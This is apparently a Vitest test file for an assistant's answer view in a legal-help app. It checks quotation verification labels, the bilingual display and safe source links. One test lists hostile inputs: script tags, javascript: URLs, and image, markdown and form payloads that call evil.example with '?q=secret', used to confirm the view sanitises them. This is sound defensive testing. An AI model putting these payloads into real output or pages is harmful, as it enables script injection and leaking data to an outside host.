import type { Block } from '@sos/domain/assistant/answer';
import { describe, expect, it } from 'vitest';
import { prerendered } from '../../testing/prerendered.tsx';
import { anExchange } from '../../testing/some-answers.ts';
import type { Exchange } from '../queries.ts';
import { copyText } from './copy-text.ts';
import { AnswerView, isAnswered } from './exchange-view.tsx';

function answered(differs: Partial<Exchange> = {}) {
  const exchange = anExchange(differs);
  if (!isAnswered(exchange)) throw new Error('not answered');
  return exchange;
}

const shown = (differs: Partial<Exchange> = {}) => prerendered(<AnswerView exchange={answered(differs)} />);
const saying = (...blocks: Block[]) => shown({ answer: { locale: 'en', blocks }, forClient: null, sources: [] });

describe('an answer', () => {
  it('marks two quotations as proved with their place, and one as unproved', async () => {
    const page = await shown({ forClient: null });
    expect(page.match(/data-verdict="proved"/g)).toHaveLength(2);
    expect(page.match(/data-verdict="unproved"/g)).toHaveLength(1);
    expect(page.match(/Show the passage/g)).toHaveLength(2);
    expect(page).toContain('Checked: these words stand in lease.pdf');
    expect(page).toContain('Checked: these words stand in The client’s need');
    expect(page).toContain('Not proved: these words were not found in Consumer protection board');
  });

  it('has each way to a passage described by the words that it leads to', async () => {
    const page = await shown({ forClient: null });
    const described = [...page.matchAll(/aria-describedby="([^"]+)"[^>]*><span>Show the passage/g)].map(([, id]) => id);
    expect(new Set(described).size).toBe(2);
    for (const id of described) expect(page).toContain(`<blockquote id="${id}"`);
  });

  it('stands beside the one for the client, each in its language and direction', async () => {
    const page = await shown();
    expect(page).toContain('<div class="said" lang="en" dir="ltr">');
    expect(page).toContain('<div class="said" lang="ar" dir="rtl">');
    expect(page).toContain('For the client: Arabic');
  });

  it('takes no quotation for proved whose source is not there', async () => {
    const place = { start: 0, end: 4 };
    const page = await saying({ kind: 'quotation', text: 'Said', sourceId: 'S9', verdict: 'proved', place });
    expect(page).toContain('data-verdict="unproved"');
    expect(page).toContain('Not proved: no source was named');
    expect(page).not.toContain('Show the passage');
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src="https://evil.example/?q=secret">',
    '![x](https://evil.example/?q=secret)',
    '[press](https://evil.example/?q=secret)',
    '[press](javascript:alert(1))',
    'https://evil.example/?q=secret',
    '<a href="https://evil.example">x</a>',
    '<iframe src="https://evil.example">',
    '```\n<form action="https://evil.example">\n```',
  ])('of %s nothing acts, loads or is followed', async (text) => {
    const page = await saying(
      { kind: 'text', text },
      { kind: 'quotation', text, sourceId: null, verdict: 'unproved', place: null },
    );
    expect(page).not.toMatch(/<(?:script|img|a|iframe|form|link|object)\b|<[^>]+\s(?:href|src|action)=/i);
  });

  it('links a source alone, with its host, and only where it is a page of the web', async () => {
    const page = await shown();
    expect(page.match(/<a\b[^>]*>/g)).toEqual([expect.stringContaining('href="https://board.example/leases?a=1"')]);
    expect(page).toContain('rel="noopener noreferrer nofollow"');
    expect(page).toContain('(board.example)');
    const bad = [{ id: 'S1', kind: 'page', title: 'Bad', url: 'javascript:alert(1)', fileId: null }] as const;
    expect(await shown({ sources: bad })).not.toContain('<a');
  });

  it('says who answered, that it was cut, and under which name it is kept', async () => {
    const page = await shown({ isCut: true, keptAs: 'Deposits' });
    expect(page).toContain('Answered by Claude Sonnet 4.5 (Anthropic)');
    expect(page).toContain('The answer ended before it was complete.');
    expect(page).toContain('Kept as “Deposits”');
    expect(page).toContain('Keep no longer');
  });
});

it('copies no quotation without what is known of it', () => {
  const { answer, sources } = answered();
  const say = (key: string, values?: object) => `${key} ${Object.values(values ?? {}).join()}`.trim();
  const text = copyText({ blocks: answer.blocks, sources }, say);
  expect(text).toContain('[answers.proved lease.pdf]');
  expect(text).toContain('Every landlord pays twice what is kept.\n[answers.unproved Consumer protection board]');
  expect(text).toContain('The deposit is due.');
});
